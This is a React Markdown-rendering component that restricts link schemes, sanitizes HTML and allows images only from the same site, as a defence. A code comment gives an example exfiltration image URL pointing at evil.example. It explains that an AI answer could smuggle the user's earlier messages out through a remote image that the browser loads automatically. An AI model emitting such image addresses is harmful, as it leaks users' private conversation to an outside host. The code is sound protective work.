"use client";
import type { ComponentProps } from "react";
import ReactMarkdown, { defaultUrlTransform } from "react-markdown";
import rehypeSanitize from "rehype-sanitize";

// The only place Markdown is rendered. Link and image addresses keep only http, https, irc, ircs,
// mailto, xmpp or relative addresses (react-markdown's default rule, as the spec requires); anything
// else becomes empty. rehype-sanitize removes raw HTML the text might carry.
//
// Images load from this site only: an answer could otherwise carry the user's earlier messages out
// in an image address (![](https://evil.example/?q=…)) that the browser fetches on its own. An image
// from anywhere else is dropped, not shown as a link.
export function safeUrl(url: string, key?: string): string {
  if (key === "src") return isSameSiteImage(url) ? defaultUrlTransform(url) : "";
  return defaultUrlTransform(url);
}

/** A path on this site: "/…", but not "//host" or "/\host" (browsers read both as another host). */
export function isSameSiteImage(url: string): boolean {
  return /^\/(?![/\\])/.test(url.trim());
}

function SameSiteImage({ src, alt, node: _node, ...rest }: ComponentProps<"img"> & { node?: unknown }) {
  if (typeof src !== "string" || !src) return null;
  // eslint-disable-next-line @next/next/no-img-element -- Markdown images are plain <img> by nature
  return <img src={src} alt={alt ?? ""} {...rest} />;
}

export function Markdown({ children, className }: { children: string; className?: string }) {
  return (
    <div className={className}>
      <ReactMarkdown rehypePlugins={[rehypeSanitize]} urlTransform={safeUrl} components={{ img: SameSiteImage }}>
        {children}
      </ReactMarkdown>
    </div>
  );
}
